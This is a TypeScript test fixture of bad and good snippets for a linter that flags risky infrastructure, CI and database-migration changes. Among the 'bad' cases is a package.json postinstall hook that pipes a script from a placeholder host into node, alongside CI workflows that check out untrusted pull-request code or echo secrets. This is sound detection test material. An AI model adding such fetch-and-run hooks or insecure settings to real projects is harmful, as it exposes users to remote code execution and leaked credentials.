import type { ExampleTable } from './examples.ts';

const hole = (name: string): string => `\${{ ${name} }}`;
const deployment = 'apiVersion: apps/v1\nkind: Deployment\n';
const asHunk = (text: string): string => text.replace(/^/gm, ' ');

export const fileExamples: ExampleTable = {
  privileged: {
    bad: [
      ['k8s/a.yaml', 'securityContext:\n  privileged: true'],
      ['docker-compose.yml', '    privileged: true'],
    ],
    good: [
      ['k8s/a.yaml', '  privileged: false'],
      ['k8s/a.yaml', '  # privileged: true'],
    ],
  },
  'host-namespaces': {
    bad: [
      ['k8s/a.yaml', 'spec:\n  hostNetwork: true'],
      ['compose.yaml', '    network_mode: host'],
    ],
    good: [
      ['k8s/a.yaml', '  hostNetwork: false'],
      ['compose.yaml', '    host: db'],
    ],
  },
  'host-path': {
    bad: [['k8s/a.yaml', `${deployment}volumes:\n  - name: a\n    hostPath:\n      path: /`]],
    good: [['k8s/a.yaml', `${deployment}volumes:\n  - name: a\n    emptyDir: {}`]],
  },
  'container-socket': {
    bad: [['compose.yaml', '      - /var/run/docker.sock:/var/run/docker.sock']],
    good: [
      ['compose.yaml', '      - ./data:/data'],
      ['a.yaml', "  - 'Cannot connect to the Docker daemon at unix:///var/run/docker.sock'"],
    ],
  },
  'runs-as-root': {
    bad: [
      ['k8s/a.yaml', '    runAsUser: 0'],
      ['k8s/a.yaml', '  runAsNonRoot: false'],
      ['compose.yaml', '    user: root'],
    ],
    good: [
      ['k8s/a.yaml', '    runAsUser: 1000'],
      ['k8s/a.yaml', '  user: rooted'],
    ],
  },
  'privilege-escalation': {
    bad: [['k8s/a.yaml', '  allowPrivilegeEscalation: true']],
    good: [['k8s/a.yaml', '  allowPrivilegeEscalation: false']],
  },
  'wide-capability': {
    bad: [
      ['k8s/a.yaml', 'capabilities:\n  add:\n    - SYS_ADMIN'],
      ['k8s/a.yaml', 'capabilities: { add: ["ALL"] }'],
    ],
    good: [
      ['k8s/a.yaml', 'capabilities:\n  drop:\n    - ALL'],
      ['k8s/a.yaml', 'capabilities:\n  add:\n    - NET_BIND_SERVICE\n  drop: ["ALL"]'],
    ],
  },
  'sandbox-off': {
    bad: [['k8s/a.yaml', 'seccompProfile:\n  type: Unconfined']],
    good: [['k8s/a.yaml', 'seccompProfile:\n  type: RuntimeDefault']],
  },
  'cluster-admin': {
    bad: [
      [
        'k8s/a.yaml',
        'kind: ClusterRoleBinding\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin',
      ],
    ],
    good: [['k8s/a.yaml', 'kind: RoleBinding\nroleRef:\n  kind: Role\n  name: reader']],
  },
  'rights-for-everything': {
    bad: [
      [
        'k8s/a.yaml',
        'kind: ClusterRole\nrules:\n  - apiGroups: [""]\n    resources: ["*"]\n    verbs: ["get"]',
      ],
      ['k8s/a.yaml', 'kind: Role\nrules:\n  - verbs:\n      - "*"'],
    ],
    good: [
      [
        'k8s/a.yaml',
        'kind: Role\nrules:\n  - apiGroups: ["*"]\n    resources: ["pods"]\n    verbs: ["get"]',
      ],
    ],
  },
  'everybody-bound': {
    bad: [
      [
        'k8s/a.yaml',
        'kind: ClusterRoleBinding\nsubjects:\n  - kind: User\n    name: system:anonymous',
      ],
    ],
    good: [['k8s/a.yaml', 'kind: ClusterRoleBinding\nsubjects:\n  - kind: User\n    name: alice']],
  },
  'moving-image': {
    bad: [['k8s/a.yaml', `${deployment}containers:\n  - name: a\n    image: redis:latest`]],
    good: [
      ['k8s/a.yaml', `${deployment}containers:\n  - image: redis:7.2`],
      ['k8s/a.yaml', `${deployment}containers:\n  - image: reg.example:5000/a/redis:7`],
    ],
  },
  'untagged-image': {
    bad: [
      ['k8s/a.yaml', `${deployment}containers:\n  - image: redis`],
      ['compose.yaml', 'services:\n  db:\n    image: postgres'],
    ],
    good: [
      ['compose.yaml', 'services:\n  web:\n    build: .\n    image: web'],
      ['values.yaml', 'image:\n  repository: redis'],
    ],
  },
  'strong-capability': {
    bad: [['compose.yaml', 'cap_add:\n  - NET_ADMIN']],
    good: [['compose.yaml', 'cap_drop:\n  - NET_ADMIN']],
  },
  'all-at-once': {
    bad: [
      ['k8s/a.yaml', '    maxUnavailable: 100%'],
      ['k8s/pdb.yaml', '  minAvailable: 0'],
    ],
    good: [
      ['k8s/a.yaml', '    maxUnavailable: 25%'],
      ['k8s/pdb.yaml', '  minAvailable: 1'],
    ],
  },
  'no-grace': {
    bad: [['k8s/a.yaml', '  terminationGracePeriodSeconds: 0']],
    good: [['k8s/a.yaml', '  terminationGracePeriodSeconds: 30']],
  },
  'open-ingress': {
    bad: [
      ['main.tf', 'ingress {\n  from_port = 22\n  to_port = 22\n  cidr_blocks = ["0.0.0.0/0"]\n}'],
    ],
    good: [
      [
        'main.tf',
        'ingress {\n  from_port = 443\n  to_port = 443\n  cidr_blocks = ["0.0.0.0/0"]\n}',
      ],
      ['main.tf', 'egress {\n  from_port = 0\n  cidr_blocks = ["0.0.0.0/0"]\n}'],
      ['main.tf', 'ingress {\n  cidr_blocks = ["10.0.0.0/8"]\n}'],
    ],
  },
  'public-bucket': {
    bad: [
      ['main.tf', '  acl = "public-read"'],
      ['main.tf', '  block_public_acls = false'],
      ['main.tf', '  publicly_accessible = true'],
    ],
    good: [
      ['main.tf', '  acl = "private"'],
      ['main.tf', '  block_public_acls = true'],
    ],
  },
  'rights-to-everything': {
    bad: [
      ['main.tf', 'statement {\n  actions = ["*"]\n}'],
      ['policy.json', '{ "Statement": [{ "Effect": "Allow",\n "Action": "*", "Resource": "*" }] }'],
    ],
    good: [
      ['main.tf', 'statement {\n  actions = ["s3:GetObject"]\n}'],
      ['policy.json', '{ "Statement": [{ "Effect": "Deny",\n "Action": "*" }] }'],
    ],
  },
  'anybody-may': {
    bad: [['policy.json', '{ "Statement": [{ "Effect": "Allow", "Principal": "*" }] }']],
    good: [
      [
        'policy.json',
        '{ "Statement": [{ "Effect": "Allow", "Principal": { "Service": "ec2.amazonaws.com" } }] }',
      ],
    ],
  },
  'not-encrypted-at-rest': {
    bad: [['main.tf', '  storage_encrypted = false']],
    good: [['main.tf', '  storage_encrypted = true']],
  },
  'protection-against-deletion-off': {
    bad: [
      ['main.tf', '  deletion_protection = false'],
      ['main.tf', '  skip_final_snapshot = true'],
    ],
    good: [['main.tf', '  deletion_protection = true']],
  },
  'failure-hidden': {
    bad: [
      ['.github/workflows/a.yml', '        continue-on-error: true'],
      ['.github/workflows/a.yml', '      - run: npm test || true'],
      ['.gitlab-ci.yml', '  allow_failure: true'],
    ],
    good: [
      ['.github/workflows/a.yml', '      - run: npm test'],
      ['.github/workflows/a.yml', '      - run: docker rm web || true'],
    ],
  },
  'foreign-code-with-secrets': {
    bad: [
      [
        '.github/workflows/a.yml',
        `on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${hole('github.event.pull_request.head.sha')}`,
      ],
    ],
    good: [
      [
        '.github/workflows/a.yml',
        `on: pull_request\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${hole('github.event.pull_request.head.sha')}`,
      ],
      [
        '.github/workflows/a.yml',
        'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/labeler@v5',
      ],
    ],
  },
  'rights-to-write-all': {
    bad: [['.github/workflows/a.yml', 'permissions: write-all']],
    good: [['.github/workflows/a.yml', 'permissions:\n  contents: read']],
  },
  'moving-action': {
    bad: [['.github/workflows/a.yml', '      - uses: org/action@main']],
    good: [
      ['.github/workflows/a.yml', '      - uses: actions/checkout@v4'],
      ['.github/workflows/a.yml', '      - uses: ./.github/actions/build'],
    ],
  },
  'secret-in-build-log': {
    bad: [
      ['.github/workflows/a.yml', `      - run: echo "${hole('secrets.TOKEN')}"`],
      ['.gitlab-ci.yml', '    - echo $DEPLOY_TOKEN'],
    ],
    good: [
      [
        '.github/workflows/a.yml',
        `      - run: echo "${hole('secrets.TOKEN')}" | docker login --password-stdin`,
      ],
      ['.github/workflows/a.yml', '      - run: echo "$GITHUB_SHA"'],
    ],
  },
  'build-runs-input': {
    bad: [['.github/workflows/a.yml', `      - run: echo "${hole('github.event.issue.title')}"`]],
    good: [
      [
        '.github/workflows/a.yml',
        `        env:\n          TITLE: ${hole('github.event.issue.title')}`,
      ],
    ],
  },
  'tests-left-out': {
    bad: [['.github/workflows/a.yml', '      - run: mvn package -DskipTests']],
    good: [['.github/workflows/a.yml', '      - run: mvn verify']],
  },
  'install-script-loads-code': {
    bad: [
      [
        'package.json',
        '{\n  "scripts": {\n    "postinstall": "curl https://x.example/a.js | node"\n  }\n}',
      ],
    ],
    good: [['package.json', '{\n  "scripts": {\n    "postinstall": "patch-package"\n  }\n}']],
  },
  'any-version': {
    bad: [['package.json', '{\n  "dependencies": {\n    "left-pad": "*"\n  }\n}']],
    good: [
      ['package.json', '{\n  "dependencies": {\n    "left-pad": "^1.3.0"\n  }\n}'],
      ['package.json', '{\n  "exports": {\n    "a": "*"\n  }\n}'],
    ],
  },
  'image-runs-as-root': {
    bad: [['Dockerfile', 'FROM node:20\nUSER root']],
    good: [
      ['Dockerfile', 'FROM node:20\nUSER root\nRUN a\nUSER node'],
      ['Dockerfile', 'FROM node:20\nUSER node'],
    ],
  },
  'moving-base-image': {
    bad: [
      ['Dockerfile', 'FROM node:latest'],
      ['Dockerfile', 'FROM node AS build'],
    ],
    good: [
      ['Dockerfile', 'FROM node:20-alpine AS build\nFROM build'],
      ['Dockerfile', 'FROM scratch'],
      ['Dockerfile', 'FROM node@sha256:abc'],
      ['Dockerfile', 'FROM reg.example:5000/node:20'],
    ],
  },
  'added-from-network': {
    bad: [['Dockerfile', 'ADD https://x.example/a.tgz /a.tgz']],
    good: [
      ['Dockerfile', 'ADD --checksum=sha256:abc https://x.example/a.tgz /a.tgz'],
      ['Dockerfile', 'ADD a.tgz /'],
    ],
  },
  'column-dropped': {
    bad: [
      ['migrations/2.sql', 'ALTER TABLE users DROP COLUMN email;'],
      ['db/migrate/2.rb', 'def change\n  remove_column :users, :email\nend'],
      ['alembic/versions/a.py', 'def upgrade():\n    op.drop_column("users", "email")'],
    ],
    good: [
      ['migrations/2.sql', 'ALTER TABLE users ADD COLUMN email text;'],
      ['alembic/versions/a.py', 'def downgrade():\n    op.drop_column("users", "email")'],
      ['migrations/2.down.sql', 'ALTER TABLE users DROP COLUMN email;'],
    ],
  },
  'table-dropped': {
    bad: [['db/migrate/2.rb', 'def change\n  drop_table :users\nend']],
    good: [
      ['db/migrate/2.rb', 'def down\n  drop_table :users\nend'],
      ['db/migrate/2.rb', 'def change\n  create_table :users\nend'],
    ],
  },
  'not-null-without-default': {
    bad: [
      ['migrations/2.sql', 'ALTER TABLE users ADD COLUMN age int NOT NULL;'],
      ['db/migrate/2.rb', 'add_column :users, :age, :integer, null: false'],
    ],
    good: [
      ['migrations/2.sql', 'ALTER TABLE users ADD COLUMN age int NOT NULL DEFAULT 0;'],
      ['migrations/2.sql', 'CREATE TABLE users (\n  id int NOT NULL\n);'],
    ],
  },
  'column-type-changed': {
    bad: [['migrations/2.sql', 'ALTER TABLE users ALTER COLUMN age TYPE bigint;']],
    good: [['migrations/2.sql', 'ALTER TABLE users ALTER COLUMN age SET DEFAULT 0;']],
  },
  'renamed-in-place': {
    bad: [
      ['migrations/2.sql', 'ALTER TABLE users RENAME COLUMN mail TO email;'],
      ['db/migrate/2.rb', 'rename_column :users, :mail, :email'],
    ],
    good: [['migrations/2.sql', "COMMENT ON COLUMN users.mail IS 'old';"]],
  },
  'index-locks-table': {
    bad: [
      ['migrations/2.sql', 'CREATE INDEX a ON users (email);'],
      ['db/migrate/2.rb', 'add_index :users, :email'],
    ],
    good: [
      ['migrations/2.sql', 'CREATE INDEX CONCURRENTLY a ON users (email);'],
      ['migrations/2.sql', 'CREATE TABLE users (email text);\nCREATE INDEX a ON users (email);'],
      ['db/migrate/2.rb', 'add_index :users, :email, algorithm: :concurrently'],
    ],
  },
  'constraint-locks-table': {
    bad: [
      [
        'migrations/2.sql',
        'ALTER TABLE orders ADD CONSTRAINT a FOREIGN KEY (user_id) REFERENCES users (id);',
      ],
    ],
    good: [
      [
        'migrations/2.sql',
        'ALTER TABLE orders ADD CONSTRAINT a FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID;',
      ],
    ],
  },
  'no-way-back': {
    bad: [
      ['db/migrate/2.rb', '  raise ActiveRecord::IrreversibleMigration'],
      ['alembic/versions/a.py', 'def downgrade() -> None:\n    pass'],
    ],
    good: [['alembic/versions/a.py', 'def downgrade():\n    op.drop_column("users", "email")']],
  },
  'probe-removed': {
    bad: [
      [
        'k8s/a.yaml',
        `${asHunk(deployment)}\n-        livenessProbe:\n-          httpGet: { path: /healthz }`,
      ],
    ],
    good: [
      [
        'k8s/a.yaml',
        ' kind: Deployment\n-  - name: proxy\n-    image: envoy:1\n-    livenessProbe:\n-      x: 1\n   - name: web',
      ],
      [
        'k8s/a.yaml',
        `${asHunk(deployment)}\n-        livenessProbe:\n+        livenessProbe: # slower\n           httpGet: { path: /healthz }`,
      ],
    ],
  },
  'limits-removed': {
    bad: [
      [
        'k8s/a.yaml',
        `${asHunk(deployment)}\n         resources:\n-          limits:\n-            memory: 256Mi\n           requests:`,
      ],
    ],
    good: [
      [
        'k8s/a.yaml',
        '         resources:\n           limits:\n-            memory: 256Mi\n+            memory: 512Mi',
      ],
    ],
  },
  'disruption-budget-removed': {
    bad: [['k8s/a.yaml', '-apiVersion: policy/v1\n-kind: PodDisruptionBudget\n apiVersion: v1']],
    good: [
      [
        'k8s/a.yaml',
        '-kind: PodDisruptionBudget\n+kind: PodDisruptionBudget # of web\n apiVersion: v1',
      ],
    ],
  },
  'hardening-removed': {
    bad: [['k8s/a.yaml', ' securityContext:\n-  readOnlyRootFilesystem: true\n   runAsUser: 1000']],
    good: [
      ['k8s/a.yaml', ' securityContext:\n-  readOnlyRootFilesystem: false\n   runAsUser: 1000'],
    ],
  },
  'build-check-removed': {
    bad: [['.github/workflows/a.yml', ' steps:\n-  - run: npm test\n   - run: npm run build']],
    good: [
      [
        '.github/workflows/a.yml',
        ' steps:\n-  - run: npm test\n+  - run: npm test -- --ci\n   - run: npm run build',
      ],
    ],
  },
  'scaled-to-nothing': {
    bad: [['k8s/a.yaml', ' spec:\n-  replicas: 3\n+  replicas: 0']],
    good: [['k8s/a.yaml', ' spec:\n-  replicas: 3\n+  replicas: 5']],
  },
  'single-instance': {
    bad: [['k8s/a.yaml', ' spec:\n-  replicas: 3\n+  replicas: 1']],
    good: [
      ['k8s/a.yaml', ' spec:\n-  replicas: 1\n+  replicas: 2'],
      ['k8s/a.yaml', 'spec:\n  replicas: 1'],
    ],
  },
  'last-instance': {
    bad: [['k8s/a.yaml', ' spec:\n-  replicas: 2\n+  replicas: 1']],
    good: [['k8s/a.yaml', ' spec:\n-  replicas: 4\n+  replicas: 2']],
  },
  'protection-switched-off': {
    bad: [['values.yaml', ' tls:\n-  enabled: true\n+  enabled: false']],
    good: [
      ['values.yaml', ' metrics:\n-  enabled: true\n+  enabled: false'],
      ['values.yaml', ' tls:\n-  enabled: false\n+  enabled: true'],
    ],
  },
  'rollout-all-at-once': {
    bad: [['k8s/a.yaml', '   strategy:\n-    type: RollingUpdate\n+    type: Recreate']],
    good: [['k8s/a.yaml', '   strategy:\n-    type: Recreate\n+    type: RollingUpdate']],
  },
  'probe-looks-away': {
    bad: [
      ['k8s/a.yaml', '   livenessProbe:\n-    failureThreshold: 3\n+    failureThreshold: 600'],
    ],
    good: [['k8s/a.yaml', '   livenessProbe:\n-    failureThreshold: 3\n+    failureThreshold: 5']],
  },
  'isolation-lowered': {
    bad: [['app.properties', '-acks=all\n+acks=0\n x=1']],
    good: [['app.properties', '-acks=1\n+acks=all\n x=1']],
  },
  'everybody-may-connect': {
    bad: [['k8s/a.yaml', 'kind: NetworkPolicy\nspec:\n  ingress:\n    - {}']],
    good: [['k8s/a.yaml', 'kind: NetworkPolicy\nspec:\n  egress:\n    - {}']],
  },
  'service-exposed': {
    bad: [['k8s/a.yaml', 'kind: Service\nspec:\n  type: LoadBalancer']],
    good: [['k8s/a.yaml', 'kind: Service\nspec:\n  type: ClusterIP']],
  },
  'password-not-asked': {
    bad: [
      ['compose.yaml', '      POSTGRES_HOST_AUTH_METHOD: trust'],
      ['pg_hba.conf', 'host all all 0.0.0.0/0 trust'],
    ],
    good: [['pg_hba.conf', 'host all all 0.0.0.0/0 scram-sha-256\nlocal all all trust']],
  },
  'durability-off': {
    bad: [
      ['postgresql.conf', 'fsync = off'],
      ['redis.conf', 'appendonly no'],
    ],
    good: [
      ['postgresql.conf', 'fsync = on'],
      ['redis.conf', 'appendonly yes'],
    ],
  },
  'stored-data-removed': {
    bad: [
      [
        'main.tf',
        '-resource "aws_db_instance" "main" {\n-  engine = "postgres"\n-}\n output "a" {}',
      ],
    ],
    good: [
      ['main.tf', '-resource "aws_iam_role" "main" {\n-}\n output "a" {}'],
      ['main.tf', '-resource "aws_s3_bucket" "a" {\n+resource "aws_s3_bucket" "b" {\n }'],
    ],
  },
  'stateful-object-removed': {
    bad: [
      ['k8s/a.yaml', '-kind: PersistentVolumeClaim\n-metadata: { name: data }\n kind: Service'],
    ],
    good: [['k8s/a.yaml', '-kind: ConfigMap\n-metadata: { name: data }\n kind: Service']],
  },
};
